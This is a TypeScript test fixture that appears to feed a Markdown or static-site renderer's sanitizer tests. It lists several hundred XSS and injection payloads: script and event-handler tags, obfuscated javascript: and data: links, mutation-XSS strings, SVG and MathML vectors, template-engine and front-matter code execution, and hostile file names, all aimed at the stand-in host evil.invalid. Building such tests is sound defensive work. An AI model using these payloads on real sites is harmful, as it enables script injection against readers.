/** Articles that try to run something in a reader's browser, or to make it fetch something. Each holds the word that must stay, if any. */

export interface Attack {
  readonly name: string;
  /** Front matter without fences. */
  readonly fields?: string;
  /** The whole file, where its header is the attack. */
  readonly file?: string;
  readonly body?: string;
  /** Path of the file. */
  readonly path?: string;
  /** False where all of the text goes with the element that it stands in. */
  readonly keepsText?: boolean;
}

/** Each sets `window.pwned` or asks the host `evil.invalid` for something. */
const RUN = 'window.pwned=1';
const EVIL = 'http://evil.invalid/';

const body = (name: string, text: string, keepsText = true): Attack => ({ name, body: text, keepsText });
const fields = (name: string, text: string): Attack => ({ name, fields: text });

const SCRIPTS = [
  body('script', `<script>${RUN}</script>`),
  body('script in capitals with blanks', `<SCRIPT\n>${RUN}</SCRIPT >`),
  body('script from elsewhere', `<script src="${EVIL}x.js"></script>`),
  body('script that is cut short', `a <script src=${EVIL}x.js`),
  body('script in a script', `<scr<script>ipt>${RUN}</scr</script>ipt>`),
  body('script in an attribute', `<b title='"></b><script>${RUN}</script>'>b</b>`),
  body('script behind a slash', `<script/x>${RUN}</script>`),
  body('module preload', `<link rel=modulepreload href="${EVIL}x.js">`),
];
const HANDLERS = [
  body('handler of an image', `<img src=x onerror="${RUN}">`),
  body('handler with slashes', `<img/src="x"/onerror=${RUN}>`),
  body('handler in capitals', `<IMG SRC=x OnErRoR=${RUN}>`),
  body('handler of focus', `<a id=x tabindex=1 autofocus onfocus=${RUN}>f</a>`),
  body('handler of a disclosure', `<details open ontoggle=${RUN}>d</details>`),
  body('handler of a video', `<video src=x onerror=${RUN}></video>`),
  body('handler of an animation', `<p style="animation:x 1s" onanimationstart=${RUN}>p</p>`),
  body('handler of a body', `<body onload=${RUN}>`),
  body('handler of a marquee', `<marquee onstart=${RUN}>m</marquee>`),
  body('handler of an input', `<input autofocus onfocus=${RUN}>`),
  body('handler in a table', `<table background=x onload=${RUN}><tr><td onclick=${RUN}>t</table>`),
  body('handler behind an odd quote', `<b title="a"onmouseover=${RUN} x="">b</b>`),
  body(
    'handler in the mark of a link',
    `<b title="&#xFDD0;0&#xFDD2;">b</b> <a href="${EVIL} onmouseover=${RUN} autofocus tabindex=1 onfocus=${RUN} x=">a</a>`,
  ),
  body('mark of a link that there is not', '<b>&#xFDD0;7&#xFDD2; b</b>'),
  body('handler in an alternative text', `![" onerror="${RUN}](x.png)`),
  body('handler in the title of a link', `[a](http://a.invalid/ '" onclick="${RUN}')`),
  body('handler in a code info', `\`\`\`"><img/src="x"/onerror=${RUN}>\ncode\n\`\`\``),
  body('handler in the label of a footnote', `a[^"><img/src="x"/onerror=${RUN}>]\n\n[^"><img/src="x"/onerror=${RUN}>]: note`),
  body('handler in the address of an autolink', `<http://a.invalid/"onmouseover=${RUN}//>`),
];
const ADDRESSES = [
  ['plain', 'javascript:window.pwned=1'],
  ['in capitals', 'JaVaScRiPt:window.pwned=1'],
  ['with an entity', 'javascript&colon;window.pwned=1'],
  ['with a number', '&#106;avascript:window.pwned=1'],
  ['with a number without its end', '&#106avascript:window.pwned=1'],
  ['with a tab', 'java&Tab;script:window.pwned=1'],
  ['with a line end', 'java&NewLine;script:window.pwned=1'],
  ['with a return', 'java&#13;script:window.pwned=1'],
  ['behind a control', '&#1;javascript:window.pwned=1'],
  ['behind a control as it is', '\u0001javascript:window.pwned=1'],
  ['behind a NUL', '&#0;javascript:window.pwned=1'],
  ['behind a blank', '&#32;javascript:window.pwned=1'],
  ['behind a no-break space', '&nbsp;javascript:window.pwned=1'],
  ['with a backslash', 'javascript\\:window.pwned=1'],
  ['with a percent sign', 'javascript%3Awindow.pwned=1'],
  ['with full-width letters', 'ｊavascript:window.pwned=1'],
  ['with a long s', 'javaſcript:window.pwned=1'],
  ['vbscript', 'vbscript:window.pwned=1'],
  ['data', 'data:text/html,%3Cscript%3Etop.pwned=1%3C/script%3E'],
  ['data in base64', 'data:text/html;base64,PHNjcmlwdD50b3AucHduZWQ9MTwvc2NyaXB0Pg=='],
  ['blob', 'blob:http://a.invalid/x'],
  ['file', 'file:///etc/passwd'],
  ['view-source', 'view-source:http://evil.invalid/'],
  ['feed', 'feed:javascript:window.pwned=1'],
  ['without protocol', '//evil.invalid/x'],
  ['with backslashes', '\\\\\\\\evil.invalid/x'],
  ['with a tab between slashes', '/&Tab;/evil.invalid/x'],
].flatMap(([name = '', address = '']) => [
  body(`link, ${name}`, `<a href="${address}">a</a>`),
  body(`link of Markdown, ${name}`, `[a](<${address}>)`),
  body(`reference, ${name}`, `[a][r]\n\n[r]: <${address}>`),
  body(`image, ${name}`, `![a](<${address}>)\n\n<img src="${address}" alt=a>`),
]);
const FRAMES = [
  body('frame with a document', `<iframe srcdoc="<script>top.pwned=1</script>"></iframe>`),
  body('frame from elsewhere', `<iframe src="${EVIL}"></iframe>`),
  body('object', `<object data="${EVIL}x"></object>`),
  body('embed', `<embed src="${EVIL}x">`),
  body('applet', `<applet code=x archive="${EVIL}x"></applet>`),
  body('base', `<base href="${EVIL}">`),
  body('refresh', `<meta http-equiv=refresh content="0;url=${EVIL}">`),
  body('policy', `<meta http-equiv=Content-Security-Policy content="default-src 'none'">`),
  body('form', `<form action="${EVIL}"><button autofocus formaction="javascript:${RUN}">b</button></form>`),
  body('input with an image', `<input type=image src="${EVIL}x.png">`),
  body('portal', `<portal src="${EVIL}"></portal>`),
  body('frameset', `<frameset onload=${RUN}><frame src="${EVIL}"></frameset>`),
];
const REQUESTS = [
  body('stylesheet', `<link rel=stylesheet href="${EVIL}x.css">`),
  body('prefetch', `<link rel=prefetch href="${EVIL}x"><link rel=dns-prefetch href="${EVIL}">`),
  body('style', `<style>@import '${EVIL}x.css';body{background:url(${EVIL}x)}</style>`),
  body('style of an element', `<p style="background:url(${EVIL}x)">p</p>`),
  body('picture', `<picture><source srcset="${EVIL}x.png"><img src=x.png alt=a></picture>`),
  body('image with sources', `<img src=x.png srcset="${EVIL}x.png 1x" alt=a>`),
  body('video', `<video poster="${EVIL}x.png" src="${EVIL}x" autoplay></video>`),
  body('audio', `<audio src="${EVIL}x" autoplay></audio>`),
  body('track', `<video><source src="${EVIL}x"><track src="${EVIL}x" default></video>`),
  body('background', `<table background="${EVIL}x.png"><tr><td background="${EVIL}y.png">t</table>`),
  body('ping', `<a href="#x" ping="${EVIL}">a</a>`),
];
const FOREIGN = [
  body('drawing', `<svg onload=${RUN}><script>${RUN}</script></svg>`),
  body(
    'drawing with an animated link',
    `<svg><a><animate attributeName=href values=javascript:${RUN} /><text y=20>x</text></a></svg>`,
  ),
  body('drawing with a use', `<svg><use href="${EVIL}x.svg#x"/></svg>`),
  body('drawing with foreign content', `<svg><foreignObject><img src=x onerror=${RUN}></foreignObject></svg>`),
  body('formula', `<math><maction actiontype=statusline xlink:href=javascript:${RUN}>m</maction></math>`),
  body(
    'formula that mutates',
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${RUN}&gt;"></table></mtext></math>`,
  ),
  body('formula and drawing', `<svg></p><style><a title="</style><img src=x onerror=${RUN}>">`, false),
  body('noscript', `<noscript><p title="</noscript><img src=x onerror=${RUN}>"></noscript>`),
  body('template', `<template><img src=x onerror=${RUN}></template>`),
  body('nested tables', `<table><table><img src=x onerror=${RUN}></table></table>`),
  body('list of options', `<select><option><style></select><img src=x onerror=${RUN}></style></select>`, false),
  body('comment', `<!--><img src=x onerror=${RUN}>-->`),
  body('comment in a comment', `<!-- --!><img src=x onerror=${RUN}> -->`),
  body('character data', `<![CDATA[><img src=x onerror=${RUN}>]]>`),
  body('instruction', `<?xml ><img src=x onerror=${RUN}>?>`),
  body('text that ends', `<textarea></textarea><img src=x onerror=${RUN}>`),
  body('title that ends', `<title></title><img src=x onerror=${RUN}>`),
  body('plain text', `<xmp><img src=x onerror=${RUN}></xmp>`),
  body('plain text that ends', `<xmp><p title="</xmp><img src=x onerror=${RUN}>"></xmp>`),
  body('form that mutates', `<form><div></form><form><img src=x onerror=${RUN}></form>`),
  body('the end of the page', `</div></article></main></body></html><script>${RUN}</script>`),
];
const CLOBBERS = [
  body('ids of the page', '<p id=main>p</p><a id=location name=location>l</a><img name=getElementById src=x alt=a>'),
  body('ids of the prototype', '<p id=__proto__>p</p> [^__proto__]\n\n[^__proto__]: note'),
];
const BREAKOUT = `"'></title></h1></script><script>${RUN}</script><img src=x onerror=${RUN}>`;
const FIELDS = [
  fields('title', `title: >-\n  ${BREAKOUT}`),
  fields('title with controls', 'title: "a\\0b\\e<script>window.pwned=1</script>"'),
  fields('summary', `summary: >-\n  ${BREAKOUT}`),
  fields('author', `author:\n  name: >-\n    ${BREAKOUT}`),
  fields('tags', `tags:\n  - >-\n    ${BREAKOUT}`),
  fields('section', `section: >-\n  ${BREAKOUT}`),
  fields('url', `url: "javascript:${RUN}"`),
  fields('url with a quote', `url: 'http://a.invalid/"><script>${RUN}</script>'`),
  fields('template of eta', `title: "<% globalThis.pwned = 1 %><%~ pwned %>"`),
  body('template of eta in the text', '<% globalThis.pwned = 1 %> <%~ it.site.title %>'),
  body('template of Jekyll', '[a]({{ site.baseurl }}javascript:window.pwned=1) [b]({% link javascript:window.pwned=1 %})'),
  body('reference of Hugo', '[a]({{< ref "javascript:window.pwned=1." >}})'),
];
const ENGINES = [
  'js',
  'javascript',
  'json',
  'coffee',
  'cson',
  'toml',
  'constructor',
  '__proto__',
  'toString',
  'hasOwnProperty',
].map(
  (name): Attack => ({
    name: `front matter of ${name}`,
    file: `---${name}\n{ date: (globalThis.pwned = 1, '2017-01-23') }\n---\nSTAYS\n`,
    keepsText: false,
  }),
);
const PATHS: Attack[] = [
  { name: 'name of a file', path: `"><img src=x onerror=window.pwned=1>.md`, body: 'p' },
  { name: 'names of folders', path: `<script>window.pwned=1</script>/a'b.md`, body: 'p' },
];

export const attacks: readonly Attack[] = [
  SCRIPTS,
  HANDLERS,
  ADDRESSES,
  FRAMES,
  REQUESTS,
  FOREIGN,
  CLOBBERS,
  FIELDS,
  ENGINES,
  PATHS,
].flat();
